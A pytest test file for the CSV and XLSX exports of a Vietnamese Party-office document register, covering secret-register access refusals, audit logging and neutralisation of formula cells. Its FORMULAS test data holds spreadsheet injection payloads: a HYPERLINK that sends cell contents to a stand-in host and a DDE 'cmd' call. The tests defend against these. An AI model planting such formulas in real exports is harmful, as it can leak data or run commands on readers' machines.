"""Exports read back: CSV with the csv module, XLSX with openpyxl; Vietnamese headers."""
from __future__ import annotations

import csv
import datetime as dt

import pytest

from models import audit, contacts, documents as D, exports
from models.errors import PermissionDenied, ValidationError
from signing import sign

T = dt.datetime


@pytest.fixture
def regs(office):
    clerk = office["clerk"]
    D.register_incoming(clerk, arrived_at=T(2025, 12, 30, 9, 15), sender="Huyện ủy Yên Sơn",
                        doc_number="12-CV/HU", doc_date="28/12/2025", doc_type="Công văn",
                        summary="V/v tổng kết năm", pages=2, copies=1)
    d = D.register_incoming(clerk, arrived_at=T(2026, 1, 5, 8, 0), sender="Ban Tổ chức Huyện ủy",
                            doc_number="05-HD/BTCHU", doc_type="Hướng dẫn",
                            summary="Hướng dẫn kiểm điểm, đánh giá Đảng viên", deadline="15/01/2026")
    D.transfer(clerk, d, "Phạm Văn Đức", received_by="Phạm Văn Đức", transferred_at=T(2026, 1, 5, 10))
    bad = D.register_incoming(clerk, arrived_at=T(2026, 1, 6, 8, 0), sender="X", summary="Trùng")
    D.cancel_incoming(clerk, bad, "Vào sổ trùng")
    o = D.reserve_number(clerk, "BC", doc_date=dt.date(2026, 1, 7), summary="Báo cáo tháng 1",
                         recipients=["Ban Thường vụ Huyện ủy", "Lưu VP"], copies=3, filed_in="Văn phòng")
    contacts.add_contact(clerk, "Phạm Văn Đức", "person", position="Bí thư", group="member", phone="0912")
    return o


def test_csv_export_reads_back(regs, office, tmp_path):
    out = tmp_path / "den.csv"
    n = exports.export(office["viewer"], "incoming", "csv", out, year=2026)
    assert n == 2
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                 # BOM: Excel reads UTF-8
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[0][:5] == ["Số đến", "Ngày đến", "Nơi gửi", "Số, ký hiệu", "Ngày văn bản"]
    assert "Trích yếu" in rows[0]
    r = dict(zip(rows[0], rows[1], strict=True))
    assert r["Số đến"] == "1" and r["Ngày đến"] == "05/01/2026 08:00"
    assert r["Trích yếu"] == "Hướng dẫn kiểm điểm, đánh giá Đảng viên"
    assert r["Đơn vị, người nhận"] == "Phạm Văn Đức" and r["Ngày chuyển"] == "05/01/2026"
    assert dict(zip(rows[0], rows[2], strict=True))["Ghi chú"] == "Đã hủy: Vào sổ trùng"
    last = audit.AuditEntry.select().order_by(audit.AuditEntry.seq.desc()).first()
    assert last.action == "export" and last.username == "xem"


def test_xlsx_export_reads_back(regs, office, tmp_path):
    from openpyxl import load_workbook
    out = tmp_path / "di.xlsx"
    assert exports.export(office["viewer"], "outgoing", "xlsx", out) == 1
    ws = load_workbook(out).active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == exports.OUTGOING_COLUMNS
    r = dict(zip(rows[0], rows[1], strict=True))
    assert r["Số, ký hiệu"] == "01-BC/ĐU" and r["Tên loại"] == "Báo cáo"
    assert r["Nơi nhận"] == "Ban Thường vụ Huyện ủy; Lưu VP" and r["Ghi chú"] == "Chưa phát hành"
    assert ws.title == "Sổ đăng ký văn bản đi"


def test_directory_export(regs, office, tmp_path):
    out = tmp_path / "danh-ba.csv"
    assert exports.export(office["viewer"], "directory", "csv", out) == 1
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[0][0] == "Tên" and rows[1][:4] == ["Phạm Văn Đức", "Cá nhân", "Cấp ủy viên", "Bí thư"]


def test_export_refusals(regs, office, tmp_path):
    with pytest.raises(ValidationError):
        exports.export(office["viewer"], "incoming", "pdf", tmp_path / "x.pdf")
    with pytest.raises(ValidationError):
        exports.export(office["viewer"], "secret", "csv", tmp_path / "x.csv")
    from models.users import SYSTEM
    with pytest.raises(PermissionDenied):
        exports.export(SYSTEM, "incoming", "csv", tmp_path / "x.csv")
    with pytest.raises(ValidationError):
        list(exports.book_rows(office["viewer"], "incoming", date_from=dt.date(2026, 2, 1),
                               date_to=dt.date(2026, 1, 1)))


# --- the seal log, its handovers and the secret register's books ---------------------------
@pytest.fixture
def books(office):
    """Two stampings (one of a secret report), two handovers, a secret register of three
    incoming documents (Mật; Tuyệt mật without and with consent) and one outgoing."""
    from models import seal
    clerk = office["clerk"]

    def signed(code, summary, day, **kw):
        o = D.reserve_number(clerk, code, doc_date=day, summary=summary, copies=4, **kw)
        sign(o, "Phạm Văn Đức", signer_position="Bí thư", authority="T/M",
                           signed_on=day)
        return o
    bc = signed("BC", "Báo cáo sơ kết công tác Đảng quý I", dt.date(2026, 3, 2))
    nq = signed("NQ", "Nghị quyết về công tác bảo vệ bí mật nhà nước", dt.date(2026, 3, 3), secrecy="Mật")
    old = signed("TB", "Thông báo năm cũ", dt.date(2025, 12, 29))
    seal.record_use(clerk, old, 1, used_on=dt.date(2025, 12, 29))
    seal.record_use(clerk, bc, 4, used_on=dt.date(2026, 3, 2), stamped_by="Trần Thị Mai",
                    notes="Đóng dấu treo phụ lục")
    seal.record_use(clerk, nq, 2, used_on=dt.date(2026, 3, 4), stamped_by="Lý Thị Ngọc")
    seal.record_handover(clerk, "Lý Thị Ngọc", "Trần Thị Mai", handed_on=dt.date(2026, 1, 5),
                         witness="Phạm Văn Đức", reason="Phân công văn thư mới")
    seal.record_handover(clerk, "Trần Thị Mai", "Lý Thị Ngọc", handed_on=dt.date(2026, 3, 3),
                         reason="Nghỉ phép")
    D.register_incoming(clerk, arrived_at=T(2026, 3, 2, 8, 0), sender="Tỉnh ủy Tuyên Quang",
                        doc_number="12-CT/TU", doc_type="Chỉ thị", secrecy="Mật",
                        summary="Chỉ thị về bảo vệ bí mật nhà nước")
    D.register_incoming(clerk, arrived_at=T(2026, 3, 3, 9, 0), sender="Huyện ủy Yên Sơn",
                        doc_number="3-CV/HU", doc_type="Công văn", secrecy="Tuyệt mật")
    D.register_incoming(clerk, arrived_at=T(2026, 3, 4, 10, 0), sender="Huyện ủy Yên Sơn",
                        doc_number="4-CV/HU", doc_type="Công văn", secrecy="Tuyệt mật",
                        summary_consent=True, summary="V/v phương án bảo vệ Đại hội")
    D.register_incoming(clerk, arrived_at=T(2026, 3, 5, 8, 0), sender="Huyện ủy Yên Sơn",
                        summary="Công văn thường")
    return office


def test_seal_log_rows(books):
    rows = list(exports.book_rows(books["viewer"], "seal", year=2026))
    assert [dict(zip(exports.SEAL_COLUMNS, r, strict=True)) for r in rows] == [
        {"STT": 1, "Ngày đóng dấu": dt.date(2026, 3, 2), "Số, ký hiệu văn bản": "01-BC/ĐU",
         "Trích yếu": "Báo cáo sơ kết công tác Đảng quý I", "Người ký": "Phạm Văn Đức",
         "Người đóng dấu": "Trần Thị Mai", "Số bản": 4, "Ghi chú": "Đóng dấu treo phụ lục"},
        {"STT": 2, "Ngày đóng dấu": dt.date(2026, 3, 4), "Số, ký hiệu văn bản": "01-NQ/ĐU",
         "Trích yếu": "(Văn bản mật — không ghi trích yếu)", "Người ký": "Phạm Văn Đức",
         "Người đóng dấu": "Lý Thị Ngọc", "Số bản": 2, "Ghi chú": ""}]
    # a date range, and every stamping when none is given
    assert [r[2] for r in exports.book_rows(books["viewer"], "seal", date_from=dt.date(2026, 3, 3),
                                            date_to=dt.date(2026, 3, 31))] == ["01-NQ/ĐU"]
    assert [r[0] for r in exports.book_rows(books["viewer"], "seal")] == [1, 2, 3]


def test_seal_handover_rows(books):
    rows = list(exports.book_rows(books["viewer"], "seal_handovers", year=2026))
    assert rows == [
        [1, dt.date(2026, 1, 5), "Lý Thị Ngọc", "Trần Thị Mai", "Phạm Văn Đức", "Phân công văn thư mới", ""],
        [2, dt.date(2026, 3, 3), "Trần Thị Mai", "Lý Thị Ngọc", "", "Nghỉ phép", ""]]
    assert exports.COLUMNS["seal_handovers"][:4] == ["STT", "Ngày bàn giao", "Người giao", "Người nhận"]


def test_secret_books_hold_the_secret_documents_and_a_tuyet_mat_summary_only_with_consent(books):
    rows = [dict(zip(exports.INCOMING_COLUMNS, r, strict=True))
            for r in exports.book_rows(books["leader"], "secret_incoming", year=2026)]
    assert [(r["Số đến"], r["Nơi gửi"], r["Độ mật"], r["Trích yếu"]) for r in rows] == [
        (1, "Tỉnh ủy Tuyên Quang", "Mật", "Chỉ thị về bảo vệ bí mật nhà nước"),
        (2, "Huyện ủy Yên Sơn", "Tuyệt mật", "(Tuyệt mật — không ghi trích yếu)"),
        (3, "Huyện ủy Yên Sơn", "Tuyệt mật", "V/v phương án bảo vệ Đại hội")]
    out = [dict(zip(exports.OUTGOING_COLUMNS, r, strict=True))
           for r in exports.book_rows(books["clerk"], "secret_outgoing", year=2026)]
    assert [(r["Số, ký hiệu"], r["Trích yếu"]) for r in out] == [
        ("01-NQ/ĐU", "Nghị quyết về công tác bảo vệ bí mật nhà nước")]
    # and the ordinary books keep them out
    plain = list(exports.book_rows(books["leader"], "incoming", year=2026))
    assert [r[6] for r in plain] == ["Công văn thường"]
    assert "01-NQ/ĐU" not in [r[0] for r in exports.book_rows(books["leader"], "outgoing")]


@pytest.mark.parametrize("role", ["admin", "viewer", "treasurer"])
def test_secret_books_are_refused_to_those_who_may_not_see_the_secret_register(books, role, tmp_path):
    actor = books[role]
    folder = tmp_path / "xuat"
    for kind in ("secret_incoming", "secret_outgoing"):
        with pytest.raises(PermissionDenied) as e:       # at the call, before any row is read
            exports.book_rows(actor, kind, year=2026)
        assert "không có quyền xem sổ văn bản mật" in e.value.message
        out = folder / f"{kind}.csv"
        before = audit.AuditEntry.select().count()
        with pytest.raises(PermissionDenied):
            exports.export(actor, kind, "csv", out)
        assert not out.exists() and not folder.exists()          # not even a temporary file
        assert audit.AuditEntry.select().count() == before


def test_seal_log_and_secret_books_export(books, tmp_path):
    from openpyxl import load_workbook
    out = tmp_path / "dau.csv"
    assert exports.export(books["viewer"], "seal", "csv", out, year=2026) == 2
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[0] == ["STT", "Ngày đóng dấu", "Số, ký hiệu văn bản", "Trích yếu", "Người ký",
                       "Người đóng dấu", "Số bản", "Ghi chú"]
    assert rows[1][2:5] == ["01-BC/ĐU", "Báo cáo sơ kết công tác Đảng quý I", "Phạm Văn Đức"]
    x = tmp_path / "mat-den.xlsx"
    assert exports.export(books["leader"], "secret_incoming", "xlsx", x, year=2026) == 3
    ws = load_workbook(x).active
    assert ws.title == "Sổ đăng ký văn bản mật đến"
    assert [ws.cell(r, 7).value for r in (2, 3, 4)] == [
        "Chỉ thị về bảo vệ bí mật nhà nước", "(Tuyệt mật — không ghi trích yếu)",
        "V/v phương án bảo vệ Đại hội"]
    last = audit.AuditEntry.select().order_by(audit.AuditEntry.seq.desc()).first()
    assert last.action == "export" and last.username == "bithu" and last.table_name == "secret_incoming"


def test_printing_a_book_is_in_the_audit_log_and_a_refusal_is_not(books):
    rows = exports.print_rows(books["leader"], "secret_incoming", date_from=dt.date(2026, 3, 1),
                              date_to=dt.date(2026, 3, 31))
    assert len(rows) == 3
    last = audit.AuditEntry.select().order_by(audit.AuditEntry.seq.desc()).first()
    assert (last.username, last.action, last.table_name) == ("bithu", "print", "secret_incoming")
    assert '"rows": 3' in last.new and "01/03/2026" in last.new and "31/03/2026" in last.new
    before = audit.AuditEntry.select().count()
    with pytest.raises(PermissionDenied):
        exports.print_rows(books["admin"], "secret_outgoing")
    assert audit.AuditEntry.select().count() == before
    assert audit.verify().ok


# --- formulas are data; numbers and dates keep their type ---------------------------------------
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")", "=cmd|' /C calc'!A0",
            "+SUM(1+1)", "-2+3", "@SUM(A1)"]
# the registers trim a field's leading blanks; a writer is given them too
BLANK_LED = ["\t=1+1", "\r=1+1"]


@pytest.fixture
def booby_trapped(office):
    """Incoming documents whose text cells look like formulas, as a scanner subfolder, a sender
    or a careless paste would make them; a contact whose name does too."""
    clerk = office["clerk"]
    for i, f in enumerate(FORMULAS):
        D.register_incoming(clerk, arrived_at=T(2026, 3, 5 + i, 8, 30), sender=f, doc_number=f"{i + 1}-CV/HU",
                            doc_date=dt.date(2026, 3, 1), doc_type="Công văn", summary=f, pages=12,
                            copies=3, notes=f, deadline=dt.date(2026, 4, 1))
    contacts.add_contact(clerk, "=HYPERLINK(\"http://x.example\")", "body", phone="+84 912 345 678")
    return office


def test_csv_cells_that_look_like_formulas_are_written_as_text(booby_trapped, tmp_path):
    out = tmp_path / "den.csv"
    assert exports.export(booby_trapped["viewer"], "incoming", "csv", out, year=2026) == len(FORMULAS)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = [dict(zip(exports.INCOMING_COLUMNS, r, strict=True)) for r in list(csv.reader(f))[1:]]
    for r in rows:
        for col in ("Nơi gửi", "Trích yếu", "Ghi chú"):
            assert r[col].startswith("'") and r[col][1:] in FORMULAS, (col, r[col])
    assert [r["Nơi gửi"][1:] for r in rows] == FORMULAS
    r = rows[0]                                   # numbers and dates as the register writes them
    assert (r["Số đến"], r["Ngày đến"], r["Ngày văn bản"], r["Số trang"], r["Hạn xử lý"]) == (
        "1", "05/03/2026 08:30", "01/03/2026", "12", "01/04/2026")
    out = tmp_path / "danh-ba.csv"
    exports.export(booby_trapped["viewer"], "directory", "csv", out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        contact = list(csv.reader(f))[1]
    assert contact[0] == "'=HYPERLINK(\"http://x.example\")" and contact[6] == "'+84 912 345 678"


def test_xlsx_cells_that_look_like_formulas_are_text_and_numbers_and_dates_are_typed(
        booby_trapped, tmp_path):
    from openpyxl import load_workbook
    out = tmp_path / "den.xlsx"
    assert exports.export(booby_trapped["viewer"], "incoming", "xlsx", out, year=2026) == len(FORMULAS)
    ws = load_workbook(out).active
    head = [c.value for c in ws[1]]
    col = {h: i + 1 for i, h in enumerate(head)}
    for row in range(2, 2 + len(FORMULAS)):
        for h in ("Nơi gửi", "Trích yếu", "Ghi chú"):
            c = ws.cell(row, col[h])
            assert c.data_type != "f" and c.data_type == "s", (h, c.value)
            assert c.value.startswith("'") and c.value[1:] in FORMULAS
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    no, arrived, dated = (ws.cell(2, col[h]) for h in ("Số đến", "Ngày đến", "Ngày văn bản"))
    assert no.value == 1 and no.data_type == "n"
    assert ws.cell(2, col["Số trang"]).value == 12 and ws.cell(2, col["Số bản"]).value == 3
    assert arrived.is_date and arrived.value == T(2026, 3, 5, 8, 30)
    assert arrived.number_format == "DD/MM/YYYY HH:MM"
    assert dated.is_date and dated.value == T(2026, 3, 1) and dated.number_format == "DD/MM/YYYY"
    deadline = ws.cell(2, col["Hạn xử lý"])
    assert deadline.is_date and deadline.number_format == "DD/MM/YYYY"
    assert ws.cell(2, col["Ngày chuyển"]).value is None            # not transferred: empty


def test_both_writers_neutralise_every_formula_start(tmp_path):
    from openpyxl import load_workbook
    cells = FORMULAS + BLANK_LED + ["=1+1 ở giữa", "Bình thường = 2", "a-b", ""]
    rows = [[i, dt.date(2026, 3, i + 1), c] for i, c in enumerate(cells)]
    exports.write_csv(tmp_path / "x.csv", ["STT", "Ngày", "=Tiêu đề"], rows)
    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    exports.write_xlsx(tmp_path / "x.xlsx", ["STT", "Ngày", "=Tiêu đề"], rows)
    ws = load_workbook(tmp_path / "x.xlsx").active
    assert got[0][2] == ws["C1"].value == "'=Tiêu đề"
    for i, c in enumerate(cells, start=1):
        expected = ("'" + c) if c[:1] in ("=", "+", "-", "@", "\t", "\r") else c
        assert got[i] == [str(i - 1), f"{i:02d}/03/2026", expected]
        assert ws.cell(i + 1, 3).data_type != "f"
        assert (ws.cell(i + 1, 3).value or "") == expected.replace("\r", "\n")   # XML reads CR as LF
        assert ws.cell(i + 1, 1).value == i - 1 and ws.cell(i + 1, 2).is_date


def test_xlsx_holds_text_with_control_characters(office, tmp_path):
    from openpyxl import load_workbook
    D.register_incoming(office["clerk"], arrived_at=T(2026, 3, 5, 8, 30), sender="Huyện\x01 ủy",
                        summary="Báo cáo\x0b tháng")
    out = tmp_path / "den.xlsx"
    assert exports.export(office["viewer"], "incoming", "xlsx", out, year=2026) == 1
    ws = load_workbook(out).active
    assert (ws["C2"].value, ws["G2"].value) == ("Huyện ủy", "Báo cáo tháng")


def test_export_writes_through_the_crash_safe_writer(regs, office, tmp_path):
    """Owner-only, and nothing but the file in its folder afterwards (no temporary left)."""
    folder = tmp_path / "xuat"
    for fmt in exports.FORMATS:
        out = folder / f"den.{fmt}"
        exports.export(office["viewer"], "incoming", fmt, out, year=2026)
        assert out.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in folder.iterdir()) == ["den.csv", "den.xlsx"]


@pytest.mark.parametrize("name, chosen, fmt, written", [
    ("x.xlsx", "csv", "xlsx", "x.xlsx"), ("x.CSV", "xlsx", "csv", "x.CSV"),
    ("so-den", "xlsx", "xlsx", "so-den.xlsx"), ("so-den.2026", "csv", "csv", "so-den.2026.csv")])
def test_the_file_name_decides_the_format(tmp_path, name, chosen, fmt, written):
    assert exports.export_target(tmp_path / name, chosen) == (fmt, tmp_path / written)


def test_a_text_longer_than_an_excel_cell_is_cut_there_and_says_so(tmp_path):
    from openpyxl import load_workbook
    long = "Trích yếu rất dài " * 6000                          # 108 000 characters
    exports.write_xlsx(tmp_path / "x.xlsx", ["Trích yếu"], [[long]])
    exports.write_csv(tmp_path / "x.csv", ["Trích yếu"], [[long]])
    v = load_workbook(tmp_path / "x.xlsx").active["A2"].value
    assert len(v) == exports.EXCEL_CELL_MAX and v.endswith(exports.EXCEL_CUT)
    assert long.startswith(v[:-len(exports.EXCEL_CUT)])
    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1] == [long]                  # the CSV keeps it whole
